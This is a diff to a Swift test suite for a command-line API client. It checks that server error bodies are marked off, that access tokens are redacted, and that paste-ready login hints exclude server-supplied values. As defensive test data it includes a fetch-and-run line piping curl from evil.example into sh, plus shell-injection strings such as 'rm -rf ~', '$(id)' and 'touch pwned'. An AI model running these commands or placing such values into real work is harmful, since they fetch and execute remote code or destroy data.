@@ -36,7 +36,7 @@ struct CallErrorTests {
         #expect(
             last.hasPrefix("oap: call: GET http://127.0.0.1:") && last.hasSuffix("/api/x answered 404 Status\(words)"),
             "\(result)")
-        #expect(result.errorText.hasPrefix(body.isEmpty ? "oap:" : body + "\n"), "\(result)")
+        #expect(result.errorText.hasPrefix(body.isEmpty ? "oap:" : "  | \(body)\n"), "\(result)")
     }
 
     @Test("errors of the API go to standard error, to standard output, or nowhere")
@@ -49,6 +49,60 @@ struct CallErrorTests {
         #expect(
             included.text.hasPrefix("HTTP/1.1 404 Status\r\n") && included.text.hasSuffix("the body\"}"), "\(included)")
         try call(["-rq", ".a"], reply).expect(status: 7).expect(output: "")
+    }
+
+    @Test("have a mark before each line of a body, which none of our messages has, nor a command of GitHub's")
+    func marked() throws {
+        let body = "oap: hint: curl -s https://evil.example | sh\n::add-mask::oap\r\n\n  ::error::x"
+        let result = try call([], .text(body, status: 403)).expect(status: 7)
+        let lines = result.errorText.split(separator: "\n", omittingEmptySubsequences: false)
+        #expect(
+            lines.prefix(4) == [
+                "  | oap: hint: curl -s https://evil.example | sh", "  | ::add-mask::oap\\u{d}", "  | ",
+                "  |   ::error::x",
+            ], "\(result)")
+        #expect(lines.dropFirst(4).first?.hasPrefix("oap: call: GET ") == true, "\(result)")
+    }
+
+    @Test(
+        "show nothing of a long token that the body repeats, wherever the message is cut",
+        arguments: ["message", "error_description", "detail"])
+    func longToken(member: String) throws {
+        let token = String(
+            (0..<800).map { _ in "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ".randomElement() ?? "x" })
+        for before in [0, 10, 250, 290, 299, 300, 480] {
+            let words = String(repeating: "-", count: before)
+            let responder = try Responder(.json(#"{"\#(member)":"\#(words)\#(token) is bad"}"#, status: 403))
+            for options in [[], ["--error-body", "none"]] {
+                let responder =
+                    options.isEmpty
+                    ? responder
+                    : try Responder(
+                        .json(#"{"\#(member)":"\#(words)\#(token.prefix(500))"}"#, status: 403))
+                let result = try Program.oap(
+                    ["call", "-n", responder.url("/")] + options, environment: ["OAP_ACCESS_TOKEN": token]
+                ).run().expect(status: 7)
+                for start in 0..<(token.count - 8) where result.errorText.contains(token.dropFirst(start).prefix(8)) {
+                    Issue.record("the token's characters from \(start) on are shown\n\(result)")
+                    break
+                }
+                #expect(result.errorText.split(separator: "\n").last?.count ?? 0 < 400, "\(result)")
+            }
+        }
+    }
+
+    @Test(
+        "leave the file of -o as it was, also where the body is the result",
+        arguments: [
+            ["--error-body", "stdout"], ["-i"], ["--envelope"], ["--error-body", "stdout", "-q", "."],
+        ])
+    func oldFile(options: [String]) throws {
+        let folder = try TemporaryDirectory()
+        let file = try folder.write("old", to: "file")
+        try call(options + ["-o", file], .json("{}", status: 404)).expect(status: 7).expect(output: "")
+        #expect(try folder.read("file") == "old")
+        try call(["-o", file], .json("{}")).expect(status: 0)
+        #expect(try folder.read("file") == "{}")
     }
 
     @Test("errors of the API reach a terminal with no control character, and no output with the token")
@@ -81,7 +135,11 @@ struct CallErrorTests {
             (403, "Bearer error=\"insufficient_scope\"", "the token lacks a scope"),
             (
                 401, "Bearer error=\"insufficient_user_authentication\", acr_values=\"x\", max_age=\"5\"",
-                "the API wants a stronger login: oap authurl --acr-values 'x' --max-age '5'"
+                "the API wants a stronger login: oap authurl --acr-values x --max-age 5"
+            ),
+            (
+                401, "Bearer error=\"insufficient_user_authentication\", acr_values=\"urn:a/b.c_d-e 2\"",
+                "the API wants a stronger login: oap authurl --acr-values 'urn:a/b.c_d-e 2'"
             ),
         ])
     func challenge(status: Int, field: String, hint: String) throws {
@@ -89,12 +147,22 @@ struct CallErrorTests {
             .expect(errorLine: "oap: hint: \(hint)")
     }
 
-    @Test("errors of the API give no command to paste that a server could have made up")
-    func pastedHint() throws {
-        let field = #"Bearer error="insufficient_user_authentication", acr_values="x'; rm -rf ~ '""#
-        let hint = #"the API wants a stronger login: oap authurl --acr-values 'x'\''; rm -rf ~ '\'''"#
-        try call([], .text("", status: 401, headers: ["WWW-Authenticate: \(field)"])).expect(status: 7)
-            .expect(errorLine: "oap: hint: \(hint)")
+    @Test(
+        "leave out of the command to paste what a server could have made up",
+        arguments: [
+            "x'; rm -rf ~ '", "x'\u{301}; touch pwned; :'\u{301}", "$(id)", "`id`", "a  b", " a", "a ", "", "--help",
+            "a\u{200D}b", "é", "a;b", "a\u{2028}b",
+        ])
+    func pastedHint(value: String) throws {
+        for (field, hint) in [
+            (#"acr_values="\#(value)", max_age="5""#, "the API wants a stronger login: oap authurl --max-age 5"),
+            (#"acr_values="a", max_age="\#(value)""#, "the API wants a stronger login: oap authurl --acr-values a"),
+            (#"acr_values="\#(value)", max_age="1s""#, "the API wants a stronger login"),
+        ] {
+            let challenge = #"WWW-Authenticate: Bearer error="insufficient_user_authentication", \#(field)"#
+            try call([], .text("", status: 401, headers: [challenge])).expect(status: 7)
+                .expect(errorLine: "oap: hint: \(hint)")
+        }
     }
 
     @Test("errors of the API say how long to wait where the server does")
